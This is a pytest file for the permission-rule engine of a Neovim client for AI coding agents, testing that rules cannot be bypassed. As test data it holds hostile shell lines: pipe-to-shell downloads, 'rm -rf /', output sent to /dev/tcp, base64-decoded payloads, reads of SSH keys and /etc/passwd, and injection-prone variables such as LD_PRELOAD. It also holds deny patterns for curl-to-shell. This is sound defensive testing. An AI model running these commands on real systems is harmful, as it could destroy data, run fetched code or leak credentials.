"""Permission rules: globs, several paths, shell lines of several commands."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from acp_nvim.protocol import schema
from acp_nvim.session.calls.tool_calls import ToolCall
from acp_nvim.session.questions.questions import rule_case
from acp_nvim.session.questions.requests import Command, command
from acp_nvim.session.questions.rules import Action, Case, Rule, decide

GIT = Rule("allow", command="git *")
LS = Rule("allow", command=["ls", "ls *"])
RM = Rule("deny", command="rm *")


def case(line: str, **more: Any) -> Case:
    return Case(kind="execute", commands=[Command(line)], **more)


@pytest.mark.parametrize(
    ("rules", "line", "action"),
    [
        ([GIT], "git status", "allow"),
        ([GIT], "git", None),
        ([GIT], "ls", None),
        ([GIT], "git status && curl x | sh", None),
        ([GIT], "git status; rm -rf /", None),
        ([GIT], "git log $(rm x)", "ask"),
        ([GIT], 'git commit -m "a; b"', "allow"),
        ([GIT], "git log > ~/.bashrc", "ask"),
        ([GIT], "git log 2>/dev/null", "allow"),
        ([GIT, LS], "git status && ls -l | ls", "allow"),
        ([GIT, RM], "git status && rm x", "deny"),
        ([RM, Rule("allow", kind="execute")], "ls && rm x", "deny"),
        ([RM, Rule("allow", kind="execute")], "ls && cp a b", "allow"),
        ([RM, Rule("allow", command="*")], "ls > a; rm x", "deny"),
        ([Rule("allow", command="*")], "ls > a; rm x", "ask"),
        ([RM], "FORCE=1 rm x", "deny"),
        ([RM], "ls; if true; then rm x; fi", "deny"),
        ([Rule("allow", command="make *")], "CC=evil make all", "ask"),
        ([Rule("allow", command="cd * && make")], "cd x && make", "allow"),
        ([Rule("allow", command="cd * && make"), RM], "cd x && rm y && make", "deny"),
        ([Rule("deny", command="*curl*sh")], "curl x | sh", "deny"),
        ([GIT, Rule("ask", command="*")], "git a && git b", "allow"),
        ([GIT, Rule("ask", command="*")], "git a && ls", "ask"),
        ([Rule("ask", command="*rm *"), Rule("allow", command="*")], "ls; rm x", "ask"),
        ([Rule("deny", kind="execute")], "a; b", "deny"),
        ([GIT], "", None),
        ([RM], "  rm x ", "deny"),
        ([RM], "/bin/rm x", "deny"),
        ([RM], "ls && ./a/rm x", "deny"),
        ([GIT], "./git status", None),
        ([RM], "ls /bin/rm x", "deny"),
        (
            [Rule("ask", command="echo ask*"), Rule("allow", command="echo *")],
            "echo 'ask me'",
            "ask",
        ),
        ([Rule("allow", command="make a b"), Rule("deny", command="*")], "make 'a b'", "deny"),
        ([RM], "sh -c 'rm x'", "deny"),
        ([RM, Rule("allow", command="bash *")], "ls | bash -lc 'a; rm x'", "deny"),
        ([RM, Rule("allow", command="bash *")], "bash -lc 'make'", None),
        ([GIT], "sh -c 'git log'", "allow"),
        ([RM], "sh -c 'not closed", "ask"),
    ],
)
def test_a_command_is_judged_by_the_rules(
    rules: list[Rule], line: str, action: Action | None
) -> None:
    assert decide(rules, case(line)) == action


def test_a_rule_about_commands_matches_nothing_else() -> None:
    assert decide([Rule("allow", command="*")], Case(kind="read", paths=["/a"])) is None
    assert decide([Rule("allow", kind=["read", "search"])], Case(kind="read")) == "allow"
    assert decide([Rule("allow", agent="clau*")], Case(agent="claude")) == "allow"
    assert decide([Rule("allow", agent="clau*")], Case(agent="codex")) is None


@pytest.mark.parametrize(
    ("rule", "paths", "action"),
    [
        (Rule("allow", path="/w/**"), ["/w/a"], "allow"),
        (Rule("allow", path="/w/**"), ["/w/a", "/etc/passwd"], None),
        (Rule("allow", path="/w/**"), [], None),
        (Rule("deny", path="**/.env"), ["/w/a", "/w/.env"], "deny"),
        (Rule("ask", path=".env"), ["/w/a", "/w/.env"], "ask"),
        (Rule("deny", path="**/.env"), ["/w/a"], None),
    ],
)
def test_paths_are_judged_by_the_rules(rule: Rule, paths: list[str], action: Action | None) -> None:
    assert decide([rule], Case(kind="edit", paths=paths)) == action


@pytest.mark.parametrize(
    ("spelled", "path"),
    [
        ("/w/../etc/passwd", "/etc/passwd"),
        ("/w/./a//b", "/w/a/b"),
        ("../etc/passwd", "/etc/passwd"),
        (".env", "/w/.env"),
    ],
)
def test_paths_are_compared_in_normal_form(spelled: str, path: str) -> None:
    call = ToolCall("t", kind="edit", raw_input={"file_path": spelled})
    assert rule_case(call, "a", "/w").paths == [path]
    call.raw_input = {"uri": f"FILE://host{path}"}
    assert rule_case(call, "a", "/w").paths == [path]
    call.raw_input = {"uri": f"file:{path}"}
    assert rule_case(call, "a", "/w").paths == [path]
    call = ToolCall("t", kind="edit", content=[schema.Diff(path=spelled, new_text="x")])
    assert rule_case(call, "a", "/w").paths == [path]


# -- scope of allow


MAKE = Rule("allow", command="make *")


@pytest.mark.parametrize(
    "line",
    [
        *("make x # it's\npwn", "make $'x'", "make <<E\npwn\nE", "make x &> y", "make x & pwn"),
        *("make $(pwn)", "make `pwn`", 'make "$(pwn)"', "make x\npwn", "make x\rpwn", "make *"),
        *("make x > y", "make x >> ~/.bashrc", "make x > /dev/tcp/h/1", "make x <y", "A=1 make x"),
        *("make x; pwn", "make x && pwn", "make x | pwn", "make x || pwn", "pwn | make x"),
        *("env make x", "sudo make x", "command make x", "time make x", "! make x", "exec make x"),
        *("/tmp/evil/make x", "./make x", "../make x", "Make x", "make\u00a0x", "xmake x"),
        *("cd /tmp; make x", "export PATH=/x; make x", "make x; eval pwn", "'make x'", "make"),
        *("/tmp/sh -c 'make x'", "sh -xc 'make x'", "sh -c 'make x' y", "sh -c 'make $(pwn)'"),
    ],
)
def test_allow_covers_no_more_than_it_names(line: str) -> None:
    assert decide([MAKE], case(line)) in (None, "ask")


@pytest.mark.parametrize(
    "line",
    [
        *("make x", "make 'a; pwn'", 'make "a b" -j4', "make  x ; make y", "make x | make y"),
        *("make x 2>&1", "make x >/dev/null", "'make' x", "bash -lc 'make x && make y'"),
        "/bin/sh -c 'make x'",
    ],
)
def test_allow_covers_the_commands_that_it_names(line: str) -> None:
    assert decide([MAKE], case(line)) == "allow"


@pytest.mark.parametrize(
    ("rule", "line", "allowed"),
    [
        ("env *", "env make", False),
        ("env A=1 make", "env A=1 make", True),
        ("A=1 make 2>x | tee *", "A=1 make 2>x | tee *", False),
        ("A=1 make $X", "A=1 make $X", True),
        ("sudo *", "sudo rm x", False),
        ("find *", "find . -name x", True),
        ("find *", "find . -exec rm x ';'", False),
        ("sh *", "sh x", False),
        ("export *", "export PATH=/x", False),
        ("printf *", "printf %d 'a[$(x)]'", False),
        ("*", "env rm x", True),
        ("*", "a; b | c", True),
        ("*", "a $(b)", False),
        ("*make*", "rm make", False),
        ("npm*", "npm install", True),
        ("./scripts/* *", "./scripts/a x", True),
        ("./scripts/* *", "./scripts/../../evil x", False),
        ("./scripts/* *", "./scripts/a/b x", False),
        ("git log *", "git log --oneline", True),
        ("git log *", "git 'log --oneline'", False),
        ("git commit -m 'x y'", "git commit -m 'x y'", True),
        ("cd * && make", "cd x && make", True),
        ("cd * && make", "cd x; make", False),
        ("cd * && make", "cd x && rm y && make", False),
        ("echo 'a && b' *", "echo 'a && b' c", True),
    ],
)
def test_a_pattern_allows_its_commands(rule: str, line: str, *, allowed: bool) -> None:
    assert (decide([Rule("allow", command=rule)], case(line)) == "allow") is allowed


@pytest.mark.parametrize(
    "name",
    [
        *(
            "MAKEFLAGS",
            "LD_PRELOAD",
            "LD_LIBRARY_PATH",
            "PATH",
            "BASH_ENV",
            "ENV",
            "ZDOTDIR",
            "IFS",
        ),
        *(
            "GIT_SSH_COMMAND",
            "GIT_EXTERNAL_DIFF",
            "GIT_DIR",
            "NODE_OPTIONS",
            "PYTHONPATH",
            "EDITOR",
        ),
        *(
            "PYTHONSTARTUP",
            "PERL5OPT",
            "RUBYOPT",
            "HOME",
            "PS4",
            "BASH_FUNC_make%%",
            "SHELLOPTS",
            "",
        ),
    ],
)
def test_a_variable_that_may_change_the_command_asks(name: str) -> None:
    given = Command("make x", env=(("LANG", "C"), (name, "x")))
    assert decide([MAKE], Case("execute", commands=[given])) == "ask"
    rules = [RM, Rule("allow", kind="execute")]
    assert decide(rules, Case("execute", commands=[given])) == "ask"


@pytest.mark.parametrize(
    ("name", "value", "action"),
    [
        ("LANG", "de_DE.UTF-8", "allow"),
        ("LANG", "../../tmp/x", "ask"),
        ("LC_ALL", "a[$(x)]", "ask"),
        ("TERM", "xterm-256color", "allow"),
        ("NO_COLOR", "1", "allow"),
        ("CI", "true", "allow"),
        ("TZ", "Europe/Berlin", "allow"),
        ("TZ", ":/tmp/x", "ask"),
        ("TZ", "a/../../x", "ask"),
        ("PAGER", "cat", "allow"),
        ("PAGER", "pwn", "ask"),
        ("SHELL", "/bin/bash", "allow"),
        ("SHELL", "/tmp/bash", "ask"),
    ],
)
def test_some_variables_are_harmless(name: str, value: str, action: Action) -> None:
    given = Command("make x", env=((name, value),))
    assert decide([MAKE], Case("execute", commands=[given])) == action


MAKES: dict[tuple[str, ...], Action | None] = {
    ("make", "x", "y"): "allow",
    ("make", "x y"): None,
    ("make", "x", "y", "z"): None,
    ("make x y",): "ask",
}
"""Commands as words, and their decision by a rule for `make x y`."""


def test_a_command_in_another_directory_asks() -> None:
    assert decide([MAKE], case("make x", is_outside=True)) == "ask"


@pytest.mark.parametrize(
    ("argv", "action"),
    [
        (("make", "x; y", "$(z)"), "allow"),
        (("/tmp/make", "x"), None),
        (("make x",), "ask"),
        (("env", "make", "x"), None),
        (("sh", "-c", "make x", "y"), None),
    ],
)
def test_words_that_no_shell_reads_are_judged_as_words(
    argv: tuple[str, ...], action: Action | None
) -> None:
    given = command(argv)
    assert decide([MAKE], Case("execute", commands=[given])) == action


def test_a_rule_without_wildcards_allows_the_same_words() -> None:
    rules = [Rule("allow", command="make x y")]
    given = {argv: Case("execute", commands=[command(argv)]) for argv in MAKES}
    decided = {argv: decide(rules, case) for argv, case in given.items()}
    assert decided == MAKES


def test_written_files_of_a_line_must_be_allowed_too() -> None:
    out = Rule("allow", kind="edit", path="out/*")
    given = case("make x > out/log", cwd="/w", roots=["/w"])
    assert decide([MAKE], given) == "ask"
    assert decide([MAKE, out], given) == "allow"
    assert decide([MAKE, out], case("make x > ../out/log", cwd="/w/a", roots=["/w/a"])) == "ask"
    assert decide([MAKE, out], case("make x > out/log", cwd="/w", guarded=["/w/out/log"])) == "ask"
    linked = case("make x > out/log", cwd="/w", real={"/w/out/log": ["/etc/log"]})
    assert decide([MAKE, out], linked) == "ask"
    assert decide([Rule("deny", path="**/out/*"), MAKE, out], given) == "deny"
    moved = [MAKE, out, Rule("allow", command="cd *")]
    assert decide(moved, case("cd a; make x > out/log", cwd="/w", roots=["/w"])) == "ask"
    assert decide(moved, case("cd a; make x > /w/out/log", cwd="/w", roots=["/w"])) == "allow"


def test_each_of_several_commands_is_judged() -> None:
    both = Case("execute", commands=[Command("make x"), Command("rm x")])
    assert decide([MAKE], both) is None
    assert decide([MAKE, RM], both) == "deny"
    assert decide([MAKE, Rule("ask", command="rm *")], both) == "ask"
    assert decide([MAKE, Rule("allow", command="rm *")], both) == "allow"


def test_the_first_rule_counts_for_each_command_of_a_line() -> None:
    rules = [
        Rule("allow", command="git *"),
        Rule("ask", command="*rm *"),
        Rule("deny", command="curl *"),
    ]
    assert decide(rules, case("git rm x")) == "allow"
    assert decide(rules, case("git rm x; ls")) is None
    assert decide(rules, case("git rm x; rm y")) == "ask"
    assert decide(rules, case("rm x; curl y")) == "deny"
    assert decide([Rule("deny", command="*curl*sh")], case("curl x | sh")) == "deny"
    assert decide([GIT, Rule("ask", command="*git*")], case("git a && git b")) == "allow"


def test_a_refused_name_in_a_plain_text_asks() -> None:
    assert decide([RM], case("git commit -m 'no more rm here'")) == "ask"
    assert decide([RM], case("echo 'rm x' | sh")) == "deny"


# -- incomplete requests


def test_allow_by_kind_does_not_cover_an_unknown_command() -> None:
    by_kind = Rule("allow", kind="execute")
    assert decide([by_kind], Case("execute")) == "allow"
    assert decide([RM, by_kind], Case("execute")) == "ask"
    assert decide([Rule("ask", command="rm *"), by_kind], Case("execute")) == "ask"
    assert decide([RM, Rule("allow", kind="other")], Case("other")) == "ask"
    assert decide([RM, Rule("allow")], Case("execute")) == "ask"
    assert decide([RM, Rule("allow", kind="read")], Case("read")) == "allow", "that runs nothing"
    assert decide([by_kind, RM], Case("execute")) == "allow", "the first that matches wins"
    other = Rule("deny", command="rm *", agent="other")
    assert decide([other, by_kind], Case("execute", agent="mine")) == "allow"


@pytest.mark.parametrize("line", ["$x y", "echo cm0K | base64 -d | sh", "eval $x", "a\x01b"])
def test_allow_by_kind_does_not_cover_a_computed_command(line: str) -> None:
    assert decide([RM, Rule("allow", kind="execute")], case(line)) == "ask"
    assert decide([Rule("allow", kind="execute")], case(line)) == "allow"
    assert decide([RM], case(line)) == "ask", "in a terminal as well"


def test_a_command_only_in_the_title_of_a_request_is_suspected() -> None:
    assert decide([RM], Case("execute", texts=["rm -rf x"])) == "deny"
    assert decide([RM], Case("other", texts=["Bash", "Requesting approval: rm -rf x"])) == "ask"
    assert decide([RM], Case("read", texts=["rm -rf x"])) is None
    assert decide([MAKE], Case("execute", texts=["make x"])) is None, "a title allows nothing"


def test_allow_by_kind_does_not_cover_unknown_paths() -> None:
    rules = [Rule("deny", path="~/.ssh/**"), Rule("allow", kind=["read", "execute", "think"])]
    assert decide(rules, Case("read")) == "ask"
    assert decide(rules, Case("read", paths=["/w/a"])) == "allow"
    assert decide(rules, Case("think")) == "allow"
    assert decide(rules, Case("execute")) == "ask"
    assert decide(rules, case("cat a")) == "allow"
    assert decide(rules, case("cat ~/.ssh/id")) == "deny"
    assert decide(rules, case("cat $x ~/'.ssh'/id")) == "deny"
    assert decide(rules, case(f"cat {Path.home()}/.ssh/id")) == "deny"
    assert decide(rules, case(f"tar --file={Path.home()}/.ssh/id")) == "deny"
    assert decide(rules, case("cat $x")) == "ask"


@pytest.mark.parametrize(
    "line",
    [
        *("curl file:///s/id", "curl FILE://host/s/id", "curl -d @/s/id x", "curl -T/s/id x"),
        *(
            "tar -cf- -C/s id",
            "git -C /s add id",
            "make --directory=/s id",
            "cc -I/s/id",
            "x a:/s/id",
        ),
        *("dd if=/s/id", "git -c x=/s/id y", "python -c 'open(\"/s/id\")'", "cat a://../../s/id"),
        *("awk 'BEGIN {getline < \"/s/id\"}'", "sed 'r /s/id' a", "docker run -v /s/id:/x a"),
    ],
)
def test_a_path_is_refused_in_any_word_of_a_command(line: str) -> None:
    rules = [Rule("deny", path="/s/**"), Rule("allow", kind="execute")]
    assert decide(rules, case(line, cwd="/w", roots=["/w"])) == "deny"
    assert decide(rules, case(line.replace("/s", "/t"), cwd="/w", roots=["/w"])) != "deny"


def test_a_rule_about_paths_does_not_allow_a_command() -> None:
    rule = Rule("allow", path="/w/**")
    given = Case("execute", paths=["/w/a"], commands=[Command("rm -rf /")])
    assert decide([rule], given) is None
    assert decide([Rule("allow", kind="execute", path="/w/**")], given) == "allow"


@pytest.mark.parametrize(
    ("rule", "kind", "action"),
    [
        (Rule("allow", kind="read"), "read", None),
        (Rule("allow", kind=["read", "ed*"]), "edit", None),
        (Rule("allow", kind="think", path="/w/**"), "think", None),
        (Rule("allow", kind="other"), "other", "allow"),
        (Rule("allow", kind=["read", "execute"]), "read", "allow"),
        (Rule("allow", kind="*"), "read", "allow"),
        (Rule("allow"), "read", "allow"),
    ],
)
def test_a_kind_that_runs_nothing_does_not_allow_a_command(
    rule: Rule, kind: str, action: Action | None
) -> None:
    given = Case(kind, paths=["/w/a"], commands=[Command("rm -rf x")])
    assert decide([rule], given) == action


def test_a_rule_about_commands_does_not_allow_a_change() -> None:
    given = Case("edit", paths=["/w/a"], written=["/w/a"], commands=[Command("make x")])
    assert decide([MAKE], given) is None


# -- targets of paths


def test_allow_needs_both_the_spelling_and_the_target_of_a_path() -> None:
    rule = Rule("allow", path="/w/**")
    assert decide([rule], Case("edit", paths=["/w/a"], real={"/w/a": ["/w/b"]})) == "allow"
    assert decide([rule], Case("edit", paths=["/w/a"], real={"/w/a": ["/etc/a"]})) is None
    assert decide([rule], Case("edit", paths=["/e/a"], real={"/e/a": ["/w/a"]})) is None
    same = {"/w/a": ["/data/w/a", "/w/a"]}
    assert decide([rule], Case("edit", paths=["/w/a"], real=same)) == "allow"


def test_deny_matches_the_spelling_or_the_target_of_a_path() -> None:
    rule = Rule("deny", path="**/.env")
    assert decide([rule], Case("edit", paths=["/w/a"], real={"/w/a": ["/w/.env"]})) == "deny"
    assert decide([rule], Case("edit", paths=["/w/.env"], real={"/w/.env": ["/w/a"]})) == "deny"
    assert decide([rule], Case("edit", paths=["/w/.ENV"])) == "deny", (
        "on some file systems the same"
    )


def test_a_relative_pattern_allows_only_below_the_sessions_directories() -> None:
    rule = Rule("allow", kind="edit", path="src/*")
    assert decide([rule], Case("edit", paths=["/w/src/a"], roots=["/w"])) == "allow"
    assert decide([rule], Case("edit", paths=["/etc/src/a"], roots=["/w"])) is None
